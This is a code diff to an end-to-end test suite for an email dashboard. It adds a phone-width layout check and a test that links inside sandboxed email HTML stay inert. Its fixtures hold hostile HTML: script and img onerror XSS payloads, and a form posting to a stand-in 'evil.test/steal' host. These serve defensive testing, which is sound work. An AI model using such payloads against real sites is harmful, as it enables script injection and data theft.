@@ -17,7 +17,8 @@ const HOSTILE_SUBJECT = `<img src=x onerror="document.title='pwned'"> Hi & <b>bo
 const HOSTILE_HTML = `<h1>Hostile</h1>
 <script>document.body.setAttribute("data-ran", "script"); top.document.title = "pwned"</script>
 <img src="x" onerror="document.body.setAttribute('data-ran', 'onerror'); top.document.title = 'pwned'">
-<form action="https://evil.test/steal"><input name="q"><button>Go</button></form>`
+<form action="https://evil.test/steal"><input name="q"><button>Go</button></form>
+<a id="away" href="http://127.0.0.1:9/away">away</a>`
 
 /** `date` as `timeZone`'s wall clock reads it, `YYYY-MM-DD HH:MM`. */
 const wallClock = (date: Date, timeZone: string) =>
@@ -83,7 +84,11 @@ describe("emails in the dashboard", () => {
     page.on("console", (message) => {
       if (/Blocked script execution in 'about:srcdoc'/.test(message.text())) blocked.push(message.text())
     })
-    watchForProblems(page, problems, /status of 4(0[13]|22)|Blocked script execution in 'about:srcdoc'/)
+    watchForProblems(
+      page,
+      problems,
+      /status of 4(0[13]|22)|Blocked script execution in 'about:srcdoc'|Blocked opening/
+    )
     const dialogs: Array<string> = []
     page.on("dialog", (dialog) => {
       dialogs.push(dialog.message())
@@ -174,6 +179,16 @@ describe("emails in the dashboard", () => {
       expect(await page.locator("table.email-list img, table.email-list b").count()).toBe(0)
       await page.getByText("Page 1 of 1 (4 in all)").waitFor()
       await shot(page, "dash-emails.png")
+      // On a phone each email is a stack of its lines: the recipient, the sender and the time are
+      // read whole, not cut to "da…" in a fifth of 390 pixels, and nothing reaches past the edge.
+      await page.setViewportSize({ width: 390, height: 900 })
+      const clipped = await page.evaluate<Array<string>>(`[...document.querySelectorAll(
+        "table.email-list tbody th, table.email-list tbody td")]
+        .filter((e) => e.scrollWidth > e.clientWidth + 1 || e.getBoundingClientRect().right > window.innerWidth + 1)
+        .map((e) => e.textContent)`)
+      expect(clipped).toEqual([])
+      await shot(page, "dash-emails-narrow.png")
+      await page.setViewportSize({ width: 1280, height: 900 })
 
       // Filters, each the API's own, kept in the address.
       await page.getByLabel("Status").selectOption("delivered")
@@ -244,6 +259,11 @@ describe("emails in the dashboard", () => {
       await hostileFrame.getByRole("heading", { name: "Hostile" }).waitFor()
       expect(await page.locator('iframe[title="Email HTML"]').getAttribute("sandbox")).toBe("")
       expect(await hostileFrame.locator("body").getAttribute("data-ran")).toBeNull()
+      // A link in the email does nothing, rather than leaving an error page in the email's place.
+      await hostileFrame.locator("#away").click()
+      await page.waitForTimeout(300)
+      expect(page.frames().map((f) => f.url())).toEqual([page.url(), "about:srcdoc"])
+      await hostileFrame.getByRole("heading", { name: "Hostile" }).waitFor({ timeout: 2000 })
       expect(await page.title()).not.toBe("pwned")
       expect(await page.locator("main img").count()).toBe(0)
       expect(dialogs).toEqual([])
